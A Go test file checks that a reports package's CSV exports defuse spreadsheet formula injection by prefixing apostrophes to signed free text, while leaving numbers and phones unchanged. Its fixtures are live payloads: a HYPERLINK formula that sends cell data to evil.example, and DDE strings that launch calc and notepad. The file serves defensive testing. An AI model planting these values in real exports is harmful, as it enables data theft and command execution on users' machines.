package reports_test

import (
	"context"
	"testing"
	"time"

	"github.com/pregon/pregon/internal/pgtest"
	"github.com/pregon/pregon/reports"
)

// Free text that starts with + or - is a formula to Excel unless all of it is a number or a
// phone: "-1+HYPERLINK(…)" leaks data on a click and "+1+cmd|…" runs a command (DDE).
func TestExportCSVGuardsSignedFormulas(t *testing.T) {
	t.Parallel()
	db := pgtest.NewDB(t)
	ctx := context.Background()
	f := buildFixture(t, db)
	const (
		hyperlink = `-1+HYPERLINK("http://evil.example/?leak="&B2,"clic")`
		dde       = `+1+cmd|' /C calc'!A0`
		source    = `-2+cmd|' /C notepad'!A0`
		optSource = `+3+HYPERLINK("http://evil.example/","baja")`
	)
	if _, err := db.Exec(ctx, `UPDATE contacts SET name = $2, email = $3, consent_source = $4,
			opted_out_at = $5, opt_out_source = $6, opt_out_reason = 'keyword'
		WHERE workspace_id = $1 AND phone_e164 = '+573000000001'`,
		f.ws.ID, hyperlink, dde, source, launch.Add(time.Hour), optSource); err != nil {
		t.Fatal(err)
	}
	// Signed numbers and phones stay as they are.
	if _, err := db.Exec(ctx, `UPDATE contacts SET name = '-12.5', email = '+57 (300) 123 4567', consent_source = '+573001234567'
		WHERE workspace_id = $1 AND phone_e164 = '+573000000002'`, f.ws.ID); err != nil {
		t.Fatal(err)
	}
	asOf := launch.Add(3 * time.Hour)

	t.Run("CampaignExport", func(t *testing.T) {
		rows, _ := csvByPhone(t, export(t, db, reports.ExportSpec{WorkspaceID: f.ws.ID, Kind: reports.KindCampaign,
			CampaignID: f.campaignID, Format: reports.CSV, AsOf: asOf}))
		if got := rows["+573000000001"]["name"]; got != "'"+hyperlink {
			t.Errorf("name = %q, want it prefixed with '", got)
		}
		if got := rows["+573000000002"]["name"]; got != "-12.5" {
			t.Errorf("signed number name = %q, want -12.5 unchanged", got)
		}
	})
	t.Run("ContactsExport", func(t *testing.T) {
		rows, _ := csvByPhone(t, export(t, db, reports.ExportSpec{WorkspaceID: f.ws.ID, Kind: reports.KindContacts,
			Format: reports.CSV, AsOf: asOf}))
		evil, plain := rows["+573000000001"], rows["+573000000002"]
		if evil == nil || plain == nil {
			t.Fatalf("contacts +573000000001 and +573000000002 missing from the export (%d rows)", len(rows))
		}
		for col, want := range map[string]string{"name": hyperlink, "email": dde, "consent_source": source, "opt_out_source": optSource} {
			if evil[col] != "'"+want {
				t.Errorf("%s = %q, want %q", col, evil[col], "'"+want)
			}
		}
		for col, want := range map[string]string{"phone": "+573000000002", "name": "-12.5", "email": "+57 (300) 123 4567", "consent_source": "+573001234567"} {
			if plain[col] != want {
				t.Errorf("%s = %q, want %q unchanged", col, plain[col], want)
			}
		}
	})
}
